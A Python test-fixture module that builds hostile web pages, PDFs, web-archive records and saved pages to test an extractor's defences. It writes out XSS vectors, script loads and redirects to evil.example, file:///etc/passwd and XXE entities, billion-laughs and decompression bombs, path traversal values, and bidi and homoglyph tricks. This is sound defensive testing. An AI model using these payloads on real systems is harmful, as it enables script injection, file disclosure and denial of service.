"""Files that somebody may send to do harm, made anew in every run: nothing of them lies in the repository."""

# ruff: noqa: E501 - hostile pages are written as they are
from __future__ import annotations

import base64
import gzip
import io
import zlib
from collections.abc import Iterator

PARAGRAPH = "<p>The northern harbour office (invented) kept the gate open all night, and nobody could say who had asked for it.</p>"


def page(inner: str, *, head: str = "", attributes: str = "") -> bytes:
    """A page with one article and something hostile in it."""
    return (
        f"<!DOCTYPE html><html lang=en><head><title>Gate open (invented)</title>{head}</head><body {attributes}><article><h1>Gate open (invented)</h1>"
        f"{PARAGRAPH * 3}{inner}{PARAGRAPH}</article></body></html>"
    ).encode("utf-8", "surrogatepass")


def pdf(content: bytes, *, filters: str = "/FlateDecode", extra: bytes = b"", catalog: bytes = b"") -> bytes:
    """A PDF of one page whose content stream has these bytes."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>",
        b"<< /Length "
        + str(len(content)).encode()
        + (f" /Filter {filters}".encode() if filters else b"")
        + b" >>\nstream\n"
        + content
        + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = io.BytesIO(b"%PDF-1.4\n")
    out.seek(0, io.SEEK_END)
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    out.write(extra)
    start = out.tell()
    out.write(b"xref\n0 6\n0000000000 65535 f \n" + b"".join(f"{place:010d} 00000 n \n".encode() for place in places))
    out.write(f"trailer << /Size 6 /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode())
    return out.getvalue()


def words(lines: list[str]) -> bytes:
    """A content stream that shows lines of text."""
    shown = " ".join(f"({each}) Tj 0 -14 Td" for each in lines)
    return f"BT /F 11 Tf 20 280 Td {shown} ET".encode("latin-1")


def record(
    body: bytes,
    *,
    address: str = "https://larkenau.example/a",
    kind: str = "text/html; charset=utf-8",
    extra: bytes = b"",
    status: str = "200 OK",
) -> bytes:
    """A response record of a web archive."""
    http = f"HTTP/1.1 {status}\r\nContent-Type: {kind}\r\n".encode() + extra + b"\r\n" + body
    head = (
        f"WARC/1.0\r\nWARC-Type: response\r\nWARC-Record-ID: <urn:uuid:{zlib.crc32(body + address.encode()):08x}-0000-4000-8000-000000000000>\r\n"
        f"WARC-Date: 2032-10-25T18:30:00Z\r\nWARC-Target-URI: {address}\r\nContent-Type: application/http; msgtype=response\r\n"
        f"Content-Length: {len(http)}\r\n\r\n"
    ).encode()
    return head + http + b"\r\n\r\n"


def saved(
    body: bytes, *, address: str = "https://larkenau.example/a", encoding: str = "base64", more: bytes = b""
) -> bytes:
    """A saved web page."""
    coded = base64.encodebytes(body) if encoding == "base64" else body
    return (
        f"From: <Saved by Sample (invented)>\r\nSnapshot-Content-Location: {address}\r\nSubject: Gate open (invented)\r\nDate: Mon, 25 Oct 2032 18:30:00 -0000\r\n"
        'MIME-Version: 1.0\r\nContent-Type: multipart/related; type="text/html"; boundary="----cut"\r\n\r\n'
        f"------cut\r\nContent-Type: text/html; charset=utf-8\r\nContent-ID: <frame@mhtml.example>\r\nContent-Transfer-Encoding: {encoding}\r\nContent-Location: {address}\r\n\r\n"
    ).encode() + coded + b"\r\n" + more + b"------cut--\r\n"  # fmt: skip


BOMB = 30_000_000
"""Unpacked bytes of a bomb: more than the limits allow, little when packed."""


def hostile() -> Iterator[tuple[str, bytes, str]]:
    """Name, bytes, and the problem that must be reported; `refused` for an InputError, empty where it need only be survived."""
    scripts = {
        "script": "<script>document.title='OWNED'</script>", "script_upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "img_onerror": "<img src=x onerror=alert('OWNED')>",
        "svg_onload": "<svg onload=alert(1)><script>OWNED</script></svg>", "iframe": "<iframe src='javascript:alert(1)'>OWNED</iframe>", "iframe_srcdoc": "<iframe srcdoc='<p>OWNED</p>'></iframe>",
        "object": "<object data='x.swf'>OWNED</object>", "embed": "<embed src='file:///etc/passwd'>", "details": "<details ontoggle=alert(1) open>fine</details>", "body_onload": "<b onmouseover=alert(1)>fine</b>",
        "unclosed_script": "<div><script>OWNED = 1</script", "math_script": "<math><mtext><script>OWNED</script></mtext></math>", "template_script": "<template><script>OWNED</script></template><img onload=x>",
        "style_import": "<style>@import 'http://evil.example/';OWNED{}</style><i onclick=x>x</i>", "applet": "<applet code=OWNED.class></applet>",
    }  # fmt: skip
    for name, inner in scripts.items():
        yield name, page(inner), "script_removed"
    yield "javascript_link", page("<p><a href='java\nscript:alert(1)'>a link</a></p>"), "odd_link"
    yield "data_link", page("<p><a href='data:text/html,OWNED'>a link</a></p>"), "odd_link"
    yield "file_link", page("<p><a href='file:///etc/passwd'>a link</a></p>"), "odd_link"
    yield "meta_refresh", page("", head="<meta http-equiv=refresh content='0;url=http://evil.example/'>"), "redirect"
    yield "base_file", page("<p><a href='x'>a link</a></p>", head="<base href='file:///'>"), ""
    for name, inner in {
        "display_none": "<p style='color:red; display : none'>OWNED</p>", "visibility": "<p style='visibility:hidden'>OWNED</p>", "zero_font": "<p style='font-size:0'>OWNED</p>",
        "opacity": "<p style='opacity:0;'>OWNED</p>", "offscreen": "<p style='position:absolute;left:-9999px'>OWNED</p>", "hidden": "<p hidden>OWNED</p>",
        "hidden_class": "<style>.gone{display:none}</style><p class='x gone'>OWNED</p>",
    }.items():  # fmt: skip
        yield name, page(inner), "hidden_text"
    for name, mark in {"rlo": "\u202e", "lre": "\u202a", "rli": "\u2067", "fsi": "\u2068", "lro": "\u202d"}.items():
        yield (
            f"bidi_{name}",
            page(f"<p>The order was {mark}never given\u202c by the office (invented) that evening.</p>"),
            "bidi_controls",
        )
    yield (
        "bidi_entity",
        page("<p>The order was &#x202E;never given by the office (invented) that evening.</p>"),
        "bidi_controls",
    )
    yield (
        "bidi_text",
        "The order was \u202enever\u202c given (invented).\n\nAnother line of the letter (invented).".encode(),
        "bidi_controls",
    )
    yield (
        "zero_width",
        page("<p>The or\u200bder was nev\u200der given by the office (invented) that evening.</p>"),
        "invisible_characters",
    )
    yield (
        "tags",
        page("<p>The order\U000e0041\U000e0042 was given by the office (invented) that evening.</p>"),
        "invisible_characters",
    )
    yield (
        "homoglyphs",
        page("<p>The оrdеr was givеn by the Наrbour office (invented) that evening.</p>"),
        "mixed_scripts",
    )
    yield (
        "greek_twins",
        page("<p>The οrder was given by the Ηarbour office (invented) that evening.</p>"),
        "mixed_scripts",
    )
    yield "nul_page", page("<p>The order\x00 was given\x00 by the office (invented).</p>"), "control_characters"
    yield (
        "nul_text",
        b"The order was given\x00 by the office (invented).\n\nAnd then nothing happened (invented).",
        "control_characters",
    )
    yield (
        "escapes",
        b"The order \x1b[31mwas\x1b[0m given by the office (invented).\n\nAnd then nothing happened (invented).",
        "control_characters",
    )
    yield "surrogate", page("<p>The order \ud800 was given (invented).</p>"), ""
    yield "bad_utf8", page("").replace(b"harbour", b"h\xff\xfe\xc0\xafrbour", 1), ""
    yield "cut_utf8", "Наказ віддали (вигадано), і ніхто не знав, хто його просив про це того вечора.".encode()[:-1], ""
    yield (
        "odd_utf16",
        b"\xff\xfe" + "The order was given by the office (invented).".encode("utf-16-le")[:-1],
        "undecodable",
    )
    yield "utf7", page("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", head="<meta charset=utf-7>"), "unknown_encoding"
    yield (
        "wrong_charset",
        page("", head="<meta charset=shift_jis>").replace(b"night", "n\u00eeght\u0456\u20ac".encode()),
        "",
    )
    yield "unknown_charset", page("", head="<meta charset=zip>"), "unknown_encoding"
    laughs = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 12))
    yield (
        "laughs",
        f"<?xml version='1.0'?><!DOCTYPE html [<!ENTITY l0 'OWNED'>{laughs}]><html><body><p>&l11; the gate (invented)</p></body></html>".encode(),
        "entity_expansion",
    )
    yield (
        "external_entity",
        b"<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><html><body><p>&x; the gate stayed open (invented)</p></body></html>",
        "entity_expansion",
    )
    yield (
        "xml_bomb",
        f"<?xml version='1.0'?><!DOCTYPE r [<!ENTITY l0 'OWNED'>{laughs}]><r>&l11;</r>".encode(),
        "refused",
    )
    yield "deep_div", page("<div>" * 20_000 + "deep (invented)" + "</div>" * 20_000), ""
    yield "deep_inline", page("<b><i>" * 5_000 + "deep (invented)"), ""
    yield "deep_table", page("<table><tr><td>" * 3_000 + "deep (invented)"), ""
    yield "deep_json", page("", head="<script type='application/ld+json'>" + "[" * 100_000 + "</script>"), ""
    yield (
        "evil_json",
        page(
            "",
            head='<script type="application/ld+json">{"@type":"NewsArticle","headline":{"a":[1]},"author":[[[1]]],"datePublished":9e999,"translationOfWork":[[]]}</script>',
        ),
        "",
    )
    yield "many_elements", page("<p>x</p>" * 150_000), ""
    yield "long_attribute", page(f"<p class='{'a ' * 500_000}' title='{'x' * 1_000_000}'>fine</p>"), ""
    yield "many_attributes", page("<p " + " ".join(f"a{n}=1" for n in range(20_000)) + ">fine</p>"), "refused"
    yield "long_word", page(f"<p>{'Journal' * 60_000}</p>"), ""
    yield "long_capitals", page(f"<p>{'AaBb' * 60_000} reports</p>"), ""
    yield "many_spaces", page(f"<p>a{' ' * 500_000}b</p>"), ""
    yield "many_breaks", page("<br>" * 100_000), ""
    yield "many_links", page("<a href=//x.example/>x</a> " * 30_000), ""
    yield "style_braces", page("", head="<style>" + ".a{" * 60_000 + "</style>"), ""
    yield "huge", b"<html><body><p>" + b"a " * 50_000_000 + b"</p></body></html>", "refused"
    yield "long_text", ("The office (invented) said so. " * 120_000).encode(), "too_large"
    yield "gzip_bomb", gzip.compress(record(b"<html><body>" + b"\0" * BOMB)), "refused"
    yield "nested_gzip", record(gzip.compress(page("") + b" " * BOMB), extra=b"Content-Encoding: gzip\r\n"), "refused"
    yield (
        "bomb_beside",
        record(page(""))
        + record(
            gzip.compress(page("") + b" " * BOMB),
            address="https://larkenau.example/b",
            extra=b"Content-Encoding: gzip\r\n",
        ),
        "zip_bomb",
    )
    yield "gzip_of_gzip", gzip.compress(gzip.compress(page(""))), "refused"
    yield "zip", b"PK\x03\x04" + b"\0" * 100, "refused"
    yield "cut_gzip", gzip.compress(record(page("")))[:-20], ""
    yield "cut_archive", record(page("")) + record(page("b"), address="https://larkenau.example/b")[:150], ""
    yield "lying_length", record(page("")).replace(b"Content-Length: ", b"Content-Length: 9", 1), ""
    yield "negative_length", record(page("")).replace(b"Content-Length: ", b"Content-Length: -", 1), "refused"
    yield (
        "many_records",
        b"".join(record(b"x", address=f"https://larkenau.example/{n}", kind="image/png") for n in range(3_000))
        + record(page("")),
        "refused",
    )
    yield "traversal_record", record(page(""), address="file:///../../etc/passwd"), ""
    yield "archive_of_archive", record(record(page("")), kind="application/warc"), "refused"
    yield "no_response", record(page(""), status="404 Not Found"), "refused"
    yield "pdf_bomb", pdf(zlib.compress(b" " * BOMB, 9)), "zip_bomb"
    yield (
        "pdf_double_bomb",
        pdf(zlib.compress(zlib.compress(b" " * BOMB, 9), 9), filters="[/FlateDecode /FlateDecode]"),
        "zip_bomb",
    )
    yield (
        "pdf_script",
        pdf(
            zlib.compress(words(["The gate stayed open (invented)."])),
            catalog=b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
        ),
        "script_removed",
    )
    yield "pdf_loop", pdf(zlib.compress(words(["The gate (invented)"]))).replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"), ""
    yield "pdf_cut", pdf(zlib.compress(words(["The gate (invented)"])))[:200], ""
    yield "pdf_only_head", b"%PDF-1.7\n", "refused"
    yield "pdf_count", pdf(zlib.compress(words(["The gate (invented)"]))).replace(b"/Count 1", b"/Count 99999999"), ""
    yield "saved_deep", b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b0\r\n\r\n" + b"".join(
        f"--b{n}\r\nContent-Type: multipart/mixed; boundary=b{n + 1}\r\n\r\n".encode() for n in range(2_000)), "refused"  # fmt: skip
    yield "saved_many", saved(page(""), more=b"------cut\r\nContent-Type: text/css\r\n\r\nx\r\n" * 3_000), "refused"
    yield (
        "saved_traversal",
        saved(
            page(""),
            more=b"------cut\r\nContent-Type: text/css\r\nContent-Location: ../../../../etc/passwd\r\n\r\nx\r\n",
        ),
        "",
    )
    yield (
        "saved_no_page",
        b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: image/png\r\n\r\nx\r\n--b--",
        "refused",
    )
    yield "saved_script", saved(page("<script>OWNED</script>")), "script_removed"
    yield "saved_bad_charset", saved(page("")).replace(b"charset=utf-8", b"charset=rot13"), "unknown_encoding"
    yield "saved_bad_base64", saved(page("")).replace(b"PCFET0", b"\xff\xff=!!"), ""
    yield "empty", b"", "refused"
    yield "blank", b" \n\t ", "refused"
    yield "only_script", b"<html><script>OWNED</script></html>", "no_text"
    yield "program", b"\x7fELF" + bytes(range(256)) * 4, "refused"
    yield "noise", bytes((n * 7919) % 251 for n in range(40_000)), "refused"
